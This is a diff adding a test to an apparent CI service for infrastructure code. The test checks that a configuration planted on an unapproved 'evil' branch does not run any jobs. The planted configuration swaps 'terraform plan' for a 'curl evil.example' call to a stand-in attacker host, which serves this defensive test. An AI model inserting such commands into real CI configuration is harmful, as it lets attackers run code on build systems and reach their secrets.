@@ -471,3 +471,21 @@ def test_a_run_that_was_cancelled_before_it_had_rows_is_cancelled_by_its_prepara
     )  # fmt: skip
     Preparer(ports, 10).prepare(first.run_id)
     assert hosted.runs.read(first.run_id).run.cancel_reason == entry.cancel_reason
+
+
+def test_only_branches_that_the_operator_names_say_what_runs(hosted):
+    (connection,) = json.loads(hosted.secrets.values[parse_location("ssm:/iac-ci/iac-ci/connections")])
+    named = json.dumps([connection | {"branches": ["main", "release/*"]}])
+    hosted.secrets.values[parse_location("ssm:/iac-ci/iac-ci/connections")] = named
+    hosted.host.files[".iac-ci.yml", "evil"] = CONFIGURATION.replace(b"terraform plan", b"curl evil.example")
+    hosted.host.files[".iac-ci.yml", HEAD] = CONFIGURATION.replace(b"[main]", b"[evil]")
+    hosted.change(base_branch="evil")
+    hosted.pull_request()
+    hosted.comment("/iac-ci plan")
+    hosted.push("evil")
+    assert hosted.jobs == []
+    assert "none of the branches" in hosted.notice
+    hosted.change(base_branch="main")
+    hosted.pull_request("edited_base")
+    hosted.pull_request("synchronize")
+    assert len(hosted.jobs) == 1
